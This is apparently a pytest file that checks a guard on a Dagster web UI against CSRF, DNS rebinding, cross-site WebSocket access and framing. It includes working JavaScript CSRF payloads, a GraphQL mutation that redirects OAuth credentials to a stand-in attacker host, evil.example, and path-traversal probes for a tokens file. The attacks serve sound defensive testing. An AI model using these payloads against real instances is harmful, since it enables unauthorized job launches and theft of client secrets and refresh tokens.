"""A page of another site attacks the UI in a real browser.

Each attack must succeed on Dagster's own app, if that is vulnerable, to prove that the attack works. The
worst one was also tried by hand: with `dagster-webserver`, a daemon and canary credentials, one GET of
`CREDENTIALS_TO_ANOTHER_HOST` made the platform send client secret and refresh token to the attacker within a
minute. With the guard it launched no run.
"""

from __future__ import annotations

from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import dagster as dg
import pytest

from strava_assets_tests.chromium import open_window
from strava_assets_tests.receivers import answering
from strava_assets_tests.web.conftest import CANARIES
from strava_assets_tests.web.requesting import LIMIT_S, request

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page

    from strava_assets_tests.web.conftest import Platform

# The platform and the browser are started once.
pytestmark = pytest.mark.xdist_group("web")

ASSET = "weekly_watts"
LAUNCH = """mutation { launchPipelineExecution(executionParams: {
  selector: {repositoryLocationName: "strava_assets", repositoryName: "__repository__", pipelineName: "%s"},
  mode: "default", runConfigData: {%s}
}) { __typename } }"""
PLAIN_LAUNCH = LAUNCH % ("refresh_marts", "")
CREDENTIALS_TO_ANOTHER_HOST = LAUNCH % (
    "sync",
    """resources: {strava: {config: {api_base_url: "EVIL/api/v3", oauth_base_url: "EVIL/oauth",
       secret_store: "FILE", token_path: "data/tokens.json", rate_limit_reserve: 0}}}""",
)

# Functions of the attacked address and a mutation, which return at the end of the attempt.
GET_AS_PICTURE = """([address, query]) => new Promise(done => {
  const picture = new Image();
  picture.onload = picture.onerror = () => done();
  picture.src = `${address}/graphql?query=${encodeURIComponent(query)}`;
})"""
GET_AS_SCRIPT = """([address, query]) => new Promise(done => {
  const script = document.createElement("script");
  script.onload = script.onerror = () => done();
  script.src = `${address}/graphql?query=${encodeURIComponent(query)}`;
  document.head.append(script);
})"""
GET_BY_FETCH = """([address, query]) =>
  fetch(`${address}/graphql?query=${encodeURIComponent(query)}`).then(() => {}, () => {})"""
FORM_AS_TEXT = """([address, query]) => new Promise(done => {
  const frame = document.createElement("iframe");
  frame.name = "hidden";
  document.body.append(frame);
  const form = document.createElement("form");
  form.method = "post";
  form.enctype = "text/plain";
  form.target = "hidden";
  form.action = `${address}/graphql?query=${encodeURIComponent(query)}`;
  document.body.append(form);
  frame.onload = () => done();
  form.submit();
})"""
FETCH_NO_CORS = """([address, query]) =>
  fetch(`${address}/graphql?query=${encodeURIComponent(query)}`,
    {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: "x"}).catch(() => {})"""
FETCH_NO_CORS_DISGUISED = """([address, query]) =>
  fetch(`${address}/graphql`, {method: "POST", mode: "no-cors", body: JSON.stringify({query}),
    headers: {"Content-Type": "text/plain; application/json"}}).catch(() => {})"""
FETCH_CORS = """([address, query]) =>
  fetch(`${address}/graphql`, {method: "POST", body: JSON.stringify({query}),
    headers: {"Content-Type": "application/json"}}).then(() => {}, () => {})"""
REPORT_MATERIALIZATION = """([address]) =>
  fetch(`${address}/report_asset_materialization/weekly_watts?description=evil`,
    {method: "POST", mode: "no-cors", body: new Blob([])}).catch(() => {})"""

LAUNCHES = {
    "GET as a picture": GET_AS_PICTURE,
    "GET as a script": GET_AS_SCRIPT,
    "GET by fetch": GET_BY_FETCH,
    "form as text/plain": FORM_AS_TEXT,
    "fetch in no-cors mode": FETCH_NO_CORS,
    "fetch in no-cors mode, JSON in disguise": FETCH_NO_CORS_DISGUISED,
}
WEBSOCKET = """([address]) => new Promise(done => {
  const socket = new WebSocket(address.replace("http", "ws") + "/graphql", "graphql-ws");
  socket.onopen = () => socket.send(JSON.stringify({type: "connection_init"}));
  socket.onmessage = message => done(message.data);
  socket.onclose = () => done("closed");
})"""
OWN_ORIGIN_LAUNCH = """([address, query]) =>
  fetch("/graphql", {method: "POST", body: JSON.stringify({query}),
    headers: {"Content-Type": "application/json"}}).then(answer => answer.status)"""


class EvilServer(ThreadingHTTPServer):
    """The attacker's site, which is also the OAuth host that would receive the credentials.

    `heard` has all requests except those for its own page, with their bodies.
    """

    def __init__(self) -> None:
        self.heard: list[str] = []
        super().__init__(("127.0.0.1", 0), _EvilHandler)

    @property
    def address(self) -> str:
        return f"http://evil.example:{self.server_port}"


class _EvilHandler(BaseHTTPRequestHandler):
    server: EvilServer
    timeout = LIMIT_S

    def do_GET(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
        if self.path not in ("/", "/favicon.ico"):
            self.server.heard.append(f"{self.command} {self.path} {body}")
        page = b"<!doctype html><title>Win a bike</title>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    do_POST = do_GET  # noqa: N815 - the name is http.server's

    def log_message(self, *_: object) -> None:
        """Nothing is written to the terminal."""


@dataclass
class Attacker:
    """A page of the attacker's site in the user's browser."""

    page: Page
    site: EvilServer
    platform: Platform

    def __post_init__(self) -> None:
        self.page.goto(self.site.address)
        self.platform.statuses.clear()

    def attack(self, script: str, port: int, query: str = PLAIN_LAUNCH) -> object:
        """Attack one of the servers."""
        return self.page.evaluate(script, [f"http://127.0.0.1:{port}", query])

    def effects(self) -> tuple[int, int]:
        """The number of launched runs and of reported materializations."""
        key = dg.AssetKey(ASSET)
        events = self.platform.instance.fetch_materializations(key, limit=1_000).records
        return self.platform.instance.get_runs_count(), len(events)


@pytest.fixture(scope="module")
def site() -> Iterator[EvilServer]:
    with answering(EvilServer()) as server:
        yield server


@pytest.fixture
def attacker(browser: Browser, site: EvilServer, platform: Platform) -> Iterator[Attacker]:
    with open_window(browser) as context:
        site.heard.clear()
        yield Attacker(context.new_page(), site, platform)


@pytest.mark.deep
@pytest.mark.parametrize("name", LAUNCHES)
def test_without_the_guard_a_page_of_another_site_launches_a_run(attacker: Attacker, name: str) -> None:
    runs, _ = attacker.effects()
    attacker.attack(LAUNCHES[name], attacker.platform.unguarded)
    assert attacker.effects()[0] == runs + 1


@pytest.mark.parametrize("name", [*LAUNCHES, "fetch in CORS mode"])
@pytest.mark.parametrize("query", [PLAIN_LAUNCH, CREDENTIALS_TO_ANOTHER_HOST], ids=["plain", "credentials"])
def test_behind_the_guard_it_launches_nothing_and_the_credentials_stay(
    attacker: Attacker, name: str, query: str
) -> None:
    before = attacker.effects()
    payload = query.replace("EVIL", attacker.site.address)
    attacker.attack((LAUNCHES | {"fetch in CORS mode": FETCH_CORS})[name], attacker.platform.guarded, payload)
    assert set(attacker.platform.statuses) == {403}
    assert attacker.effects() == before
    assert attacker.site.heard == []


@pytest.mark.deep
def test_a_materialization_is_reported_by_another_site_only_without_the_guard(attacker: Attacker) -> None:
    runs, events = attacker.effects()
    attacker.attack(REPORT_MATERIALIZATION, attacker.platform.unguarded)
    assert attacker.effects() == (runs, events + 1)
    attacker.attack(REPORT_MATERIALIZATION, attacker.platform.guarded)
    assert attacker.effects() == (runs, events + 1)


def test_a_websocket_of_another_site_opens_only_without_the_guard(attacker: Attacker) -> None:
    assert "connection_ack" in str(attacker.attack(WEBSOCKET, attacker.platform.unguarded))
    assert attacker.attack(WEBSOCKET, attacker.platform.guarded) == "closed"


@pytest.mark.deep
def test_another_site_frames_the_ui_only_without_the_guard(attacker: Attacker) -> None:
    frame = """([address]) => new Promise(done => {
      const frame = document.createElement("iframe");
      frame.onload = () => done();
      frame.src = `${address}/`;
      document.body.append(frame);
    })"""
    attacker.attack(frame, attacker.platform.unguarded)
    attacker.attack(frame, attacker.platform.guarded)
    expected = [f"http://127.0.0.1:{attacker.platform.unguarded}/", "chrome-error://chromewebdata/"]
    # The address of a frame reaches the test after the frame has loaded.
    for _ in range(100):
        if [frame.url for frame in attacker.page.frames[1:]] == expected:
            break
        attacker.page.wait_for_timeout(100)
    assert [frame.url for frame in attacker.page.frames[1:]] == expected


@pytest.mark.deep
@pytest.mark.parametrize("path", ["/", "/graphql", "/server_info", "/report/", "/logs/x/compute_logs/y/out"])
def test_a_name_that_leads_to_this_machine_shows_nothing_of_it(attacker: Attacker, path: str) -> None:
    answer = attacker.page.goto(f"http://rebound.example:{attacker.platform.guarded}{path}")
    assert answer is not None
    assert answer.status == 403
    assert "does not accept requests for the host 'rebound.example" in attacker.page.inner_text("body")


@pytest.mark.deep
def test_a_name_that_leads_to_this_machine_launches_only_without_the_guard(attacker: Attacker) -> None:
    runs, _ = attacker.effects()
    attacker.page.goto(f"http://rebound.example:{attacker.platform.unguarded}/server_info")
    assert attacker.attack(OWN_ORIGIN_LAUNCH, 0) == 200
    assert attacker.effects()[0] == runs + 1
    attacker.page.goto(f"http://rebound.example:{attacker.platform.guarded}/server_info")
    assert attacker.attack(OWN_ORIGIN_LAUNCH, 0) == 403
    assert attacker.effects()[0] == runs + 1


def test_no_answer_to_an_attack_holds_a_credential(platform: Platform) -> None:
    for path in ("/", "/graphql?query={version}", "/report/../../tokens.json", "/report/%2e%2e/tokens.json"):
        for host in (f"127.0.0.1:{platform.guarded}", "evil.example"):
            text = request(platform.guarded, path, hosts=[host]).text
            assert not [canary for canary in CANARIES.values() if "canary" in canary and canary in text]


def test_no_address_runs_a_query_by_get(platform: Platform) -> None:
    """With Dagster's real routes and the Accept header with which it executes queries."""
    runs = platform.instance.get_runs_count()
    for port, prefix in ((platform.guarded, ""), (platform.prefixed, "/rides")):
        for path in ("/graphql", "/graphql/", "//graphql", "/graphql%0a", "/%67raphql", "/x/graphql"):
            query = PLAIN_LAUNCH.replace("\n", "%20").replace(" ", "%20").replace('"', "%22")
            for method in ("GET", "HEAD"):
                request(port, f"{prefix}{path}?query={query}", ("Accept", "*/*"), method=method)
    assert platform.instance.get_runs_count() == runs
